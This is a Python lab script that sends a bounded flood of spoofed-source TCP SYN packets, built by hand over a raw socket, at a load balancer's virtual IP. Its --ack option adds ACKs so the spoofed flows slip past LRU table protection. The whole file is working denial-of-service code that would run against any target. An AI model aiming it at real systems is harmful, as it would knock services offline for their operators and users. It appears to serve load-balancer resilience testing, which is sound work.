#!/usr/bin/env python3
"""Send a bounded flood of TCP SYNs to a VIP, each from a new source address and port.

    lab-syn-flood.py VIP PORT [--count 50000] [--max-seconds 20] [--src-net 198.19.0.0/16] [--ack]

Every SYN is a new flow for the director (its connection table fills and evicts), from a
source address drawn in --src-net (a network nobody routes back to, so the reals' SYN-ACKs go
nowhere) and a source port drawn at random. IPv4 with correct IP and TCP checksums, sent on a
raw socket (root, inside the lab's client namespace). With --ack each SYN is followed by an
ACK of the same flow, as from a client completing its handshake: the flow's entry is then
used twice, which an LRU table that favours entries used more than once cannot tell from a
live connection. Stops after --count packets or
--max-seconds, whichever comes first, and prints "sent N in S s".
"""

import argparse
import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(src, dst, sport, dport, seq, flags):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, flags, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0, src, dst
    )
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main():
    p = argparse.ArgumentParser()
    p.add_argument("vip")
    p.add_argument("port", type=int)
    p.add_argument("--count", type=int, default=50000)
    p.add_argument("--max-seconds", type=float, default=20)
    p.add_argument("--src-net", default="198.19.0.0/16")
    p.add_argument("--ack", action="store_true")
    args = p.parse_args()
    net = ipaddress.ip_network(args.src_net)
    dst = socket.inet_aton(args.vip)
    rng = random.Random(1)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    start = time.monotonic()
    deadline = start + args.max_seconds
    sent = 0
    while sent < args.count and time.monotonic() < deadline:
        for _ in range(256):
            host = net.network_address + rng.randrange(1, net.num_addresses - 1)
            sport, seq = rng.randrange(1024, 65536), rng.getrandbits(32)
            flags = [0x02, 0x10] if args.ack else [0x02]
            for f in flags:
                try:
                    s.sendto(segment(host.packed, dst, sport, args.port, seq, f), (args.vip, 0))
                except OSError:  # a full queue: drop this one, the flood is best effort
                    pass
            sent += 1
            if sent >= args.count:
                break
    print(f"sent {sent} flows ({len(flags) * sent} packets) in {time.monotonic() - start:.2f} s", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
